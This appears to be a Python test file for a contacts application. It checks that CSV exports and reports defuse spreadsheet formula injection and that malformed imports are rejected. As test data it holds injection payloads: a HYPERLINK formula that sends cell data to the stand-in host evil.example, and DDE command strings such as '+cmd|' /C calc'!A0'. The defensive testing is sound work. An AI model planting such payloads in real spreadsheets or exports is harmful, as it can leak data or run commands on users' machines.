"""CSV that cannot attack a spreadsheet, and imports that refuse what they cannot read."""

import csv
import io

from app.auth.models import Role
from tests.support.contacts import import_contacts, list_contacts

FORMULA = '=HYPERLINK("http://evil.example/"&B2,"Ivan")'


async def _export(cf, headers: dict) -> list[dict]:
    response = await cf.http.get("/api/contacts/export", headers=headers)
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_a_formula_planted_in_a_name_is_exported_as_text_and_imported_back_as_it_was(cf, supervisor):
    operator = await cf.user("olga", Role.operator)
    created = await cf.http.post("/api/contacts", json={"phone": "+79001112233"}, headers=operator["headers"])
    for name, company in [(FORMULA, "@SUM(1+1)"), ("-2+3", "+cmd|' /C calc'!A0")]:
        contact_id = created.json()["id"]
        await cf.http.patch(
            f"/api/contacts/{contact_id}", json={"name": name, "company": company}, headers=operator["headers"]
        )
        [row] = await _export(cf, supervisor["headers"])
        assert (row["name"], row["company"]) == ("'" + name, "'" + company)
        assert row["phone"] == "+79001112233"  # E.164 stays as it is: importers need it
    await cf.http.patch(
        f"/api/contacts/{contact_id}", json={"name": FORMULA, "company": "Stroy"}, headers=operator["headers"]
    )
    exported = (await cf.http.get("/api/contacts/export", headers=supervisor["headers"])).text

    await cf.http.patch(f"/api/contacts/{contact_id}", json={"name": None}, headers=supervisor["headers"])
    assert (await import_contacts(cf, supervisor["headers"], exported)).status_code == 200
    [contact] = await list_contacts(cf, supervisor["headers"])
    assert contact["name"] == FORMULA  # the ' came off again


async def test_report_csvs_neutralize_formulas_but_keep_numbers(cf, supervisor):
    operator = await cf.user("=cmd|calc", Role.operator)
    contact = (await cf.http.post("/api/contacts", json={"phone": "+79001112233"}, headers=operator["headers"])).json()
    deal = await cf.http.post(
        "/api/deals", json={"contact_id": contact["id"], "amount": 5}, headers=operator["headers"]
    )
    assert deal.status_code == 201, deal.text
    response = await cf.http.get(
        "/api/reports/funnel", params={"format": "csv", "by": "manager"}, headers=supervisor["headers"]
    )
    rows = list(csv.reader(io.StringIO(response.text)))
    managers = {row[0] for row in rows[1:]}
    assert "'=cmd|calc" in managers and "=cmd|calc" not in managers
    assert all(not cell.startswith("=") for row in rows for cell in row)
    calls = await cf.http.get("/api/reports/calls", params={"format": "csv"}, headers=supervisor["headers"])
    assert calls.headers["content-type"].startswith("text/csv") and calls.text.startswith("queue,name,offered")


async def test_an_import_names_rows_it_cannot_read_and_imports_nothing(cf, supervisor):
    wide = "phone,name\n+79001112233,Ivan\n+79001112234,Petr,extra,cells\n"
    response = await import_contacts(cf, supervisor["headers"], wide)
    assert response.status_code == 422
    assert response.json()["errors"] == [{"line": 3, "error": "the row has more cells than the header"}]

    huge = "phone,name\n+79001112233," + "x" * (130 * 1024) + "\n"
    response = await import_contacts(cf, supervisor["headers"], huge)
    assert response.status_code == 422 and "line" in response.json()["errors"][0]

    long_name = "phone,name\n+79001112233," + "x" * 201 + "\n"
    response = await import_contacts(cf, supervisor["headers"], long_name)
    assert response.status_code == 422 and "longer than 200" in response.json()["errors"][0]["error"]

    nul = "phone,name\n+79001112233,Iv\x00an\n"
    assert (await import_contacts(cf, supervisor["headers"], nul)).status_code == 422
    assert await list_contacts(cf, supervisor["headers"]) == []


async def test_owners_in_an_import_are_operators(cf, supervisor):
    await cf.user("boss", Role.admin)
    response = await import_contacts(cf, supervisor["headers"], "phone,owner\n+79001112233,boss\n")
    assert response.status_code == 422 and "no operator named 'boss'" in response.json()["errors"][0]["error"]
